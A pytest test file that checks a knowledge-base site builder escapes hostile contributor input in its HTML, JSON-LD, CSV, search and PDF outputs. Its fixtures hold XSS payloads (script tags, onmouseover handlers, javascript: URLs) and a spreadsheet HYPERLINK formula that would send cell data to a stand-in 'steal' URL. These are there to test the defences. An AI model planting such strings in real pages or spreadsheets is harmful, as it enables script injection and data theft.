"""Injection: what a contributor types never becomes markup or script for readers.

Every text field of every kind carries a payload with HTML, quotation marks,
``</script>`` and an entity reference; URL fields carry ``javascript:`` URLs;
a quote carries control characters. The HTML must show the payload as text
(no element, attribute or script it made), the JSON-LD must parse back to it,
the exports must round-trip it, and each refused URL or control character must
be a located warning. (Search and PDF add their own checks in their tests.)
"""

from __future__ import annotations

import csv
import json

import pytest
from bs4 import BeautifulSoup

from building import Project

PAYLOAD = "<b onmouseover=\"alert(1)\">'x'</b></script><script>alert(2)</script>&amp;"
# what a reader should see: the same characters, smart quotes aside
SHOWN = PAYLOAD.replace("&amp;", "&")

STATEMENT = f"""# Statement {PAYLOAD}

:::{{statement}}
:date: 2021-12-15
:organization: evil-org
:place: {PAYLOAD}
:source: javascript:alert(3)
:::

:::{{quote}} evil-quote
:speaker: evil-person
:role: {PAYLOAD}
:source: javascript:alert(4)

Quoted {PAYLOAD} with a bell \x07 and an escape \x1b.
:::

:::{{quote}} formula-quote
:speaker: evil-person

=HYPERLINK("https://example.org/steal?x="&A1,"click")
:::

```{{raw}} html
<script>alert(6)</script>
```
"""

ENTITIES = f"""# Entities

:::{{person}} evil-person
:name: {PAYLOAD}
:native-name: {PAYLOAD}
:role: {PAYLOAD}
:::

:::{{organization}} evil-org
:name: {PAYLOAD}
:short-name: {PAYLOAD}
:url: javascript:alert(5)
:::

::::{{agreement}} evil-agreement
:title: {PAYLOAD}
:short-title: {PAYLOAD}
:date: 2021
:place: {PAYLOAD}
:status: {PAYLOAD}
:parties: evil-org

Summary {PAYLOAD}.

:::{{provision}} 1
Provision {PAYLOAD}.
:::
::::

:::{{topic}} evil-topic
:title: {PAYLOAD}
:::

:::{{event}} evil-event
:title: {PAYLOAD}
:date: 2021
:place: {PAYLOAD}
:::
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    project = Project("injection", tmp_path_factory.mktemp("injection"))
    project.write("statement.md", STATEMENT)
    project.write("entities.md", ENTITIES)
    return project, project.build()


def pages(result) -> dict[str, BeautifulSoup]:
    return {
        name: BeautifulSoup(text, "html.parser") for name, text in result.pages().items()
    }


def test_refused_urls_and_control_characters_are_located_warnings(built):
    project, result = built
    lines = sorted(w.replace(str(project.srcdir) + "/", "") for w in result.warnings)
    assert [line.split(" WARNING: ")[0] for line in lines] == [
        "entities.md:12:",
        "statement.md:13:",
        "statement.md:15:",
        "statement.md:15:",
        "statement.md:24:",
        "statement.md:7:",
    ]
    assert sum("[briefing.invalid-url]" in line for line in lines) == 3
    assert sum("[briefing.encoding]" in line for line in lines) == 2
    assert any('"raw" directive disabled' in line for line in lines)


def test_no_page_gets_a_script_handler_or_javascript_url_from_the_payload(built):
    _, result = built
    for name, page in pages(result).items():
        for script in page.find_all("script"):
            if script.get("type") == "application/ld+json":
                json.loads(script.string)  # data, which must parse
                continue
            assert "alert(" not in script.get_text(), name
        for element in page.find_all(True):
            assert not any(attr.startswith("on") for attr in element.attrs), (name, element)
            for attr in ("href", "src", "action"):
                assert not str(element.get(attr, "")).lower().startswith("javascript:"), name
        assert page.find("b") is None, name


def test_the_payload_is_shown_as_text(built):
    _, result = built
    entities = pages(result)["entities.html"]
    person = entities.find(id="person-evil-person")
    heading = person.find(class_="kb-entity-title").get_text()
    assert "<b onmouseover=" in heading and "</script><script>alert(2)</script>&" in heading
    provision = entities.find(id="provision-evil-agreement--1").get_text()
    assert "</script><script>alert(2)</script>&" in provision
    statement = pages(result)["statement.html"]
    quote = statement.find(id="quote-evil-quote").get_text()
    assert "\x07" not in quote and "\x1b" not in quote and "\ufffd" in quote


def test_jsonld_parses_back_to_the_payload(built):
    _, result = built
    statement = pages(result)["statement.html"]
    scripts = statement.find_all("script", type="application/ld+json")
    assert scripts
    graph = json.loads(scripts[0].string)
    text = json.dumps(graph, ensure_ascii=False)
    assert "</script><script>alert(2)</script>" in text  # as data, after parsing
    assert "</script>" not in scripts[0].string.lower()  # never as markup


def test_exports_round_trip_the_payload(built):
    _, result = built
    data = json.loads((result.outdir / "data" / "knowledge-base.json").read_text())
    people = [e for e in data["entities"] if e["kind"] == "person"]
    assert people[0]["title"].replace("\u201c", '"').replace("\u201d", '"') in (PAYLOAD, SHOWN)
    with (result.outdir / "data" / "people.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["title"] == people[0]["title"]


def test_a_quote_that_looks_like_a_formula_stays_text_in_spreadsheets(built):
    _, result = built
    data = json.loads((result.outdir / "data" / "knowledge-base.json").read_text())
    (quote,) = [e for e in data["entities"] if e["id"] == "formula-quote"]
    assert quote["text"].startswith("=HYPERLINK(")
    with (result.outdir / "data" / "quotes.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    assert rows["formula-quote"]["text"] == "'" + quote["text"]


@pytest.mark.browser
def test_search_results_show_the_payload_as_text_and_run_nothing(built, chromium):
    from conftest import serve

    _, result = built
    with serve(result.outdir) as url:
        context = chromium.new_context()
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(f"{url}/search.html?q=Quoted")
        page.wait_for_selector("html[data-search-state=ready]")
        page.wait_for_selector("li.kb-search-result")
        results = BeautifulSoup(page.inner_html("#kb-search-results"), "html.parser")
        context.close()
    assert dialogs == []
    assert results.find("b") is None and results.find("script") is None
    assert not any(
        attr.startswith("on") for element in results.find_all(True) for attr in element.attrs
    )
    assert "alert(2)" in results.get_text()  # the payload, as text


def test_pdf_shows_the_payload_as_text_and_runs_nothing(built):
    import pikepdf
    import pypdf

    project, _ = built
    book = {"name": "evil", "root": "index", "title": "Injection book"}
    result = project.build("pdf", outdir="pdf", confoverrides={"briefing_books": [book]})
    path = result.outdir / "evil.pdf"
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(path).pages)
    assert "alert(2)" in text and "onmouseover" in text
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Dictionary):
                assert "/JS" not in obj and "/JavaScript" not in obj
                action = obj.get("/A")
                if isinstance(action, pikepdf.Dictionary) and "/URI" in action:
                    assert str(action["/URI"]).startswith(("http://", "https://"))
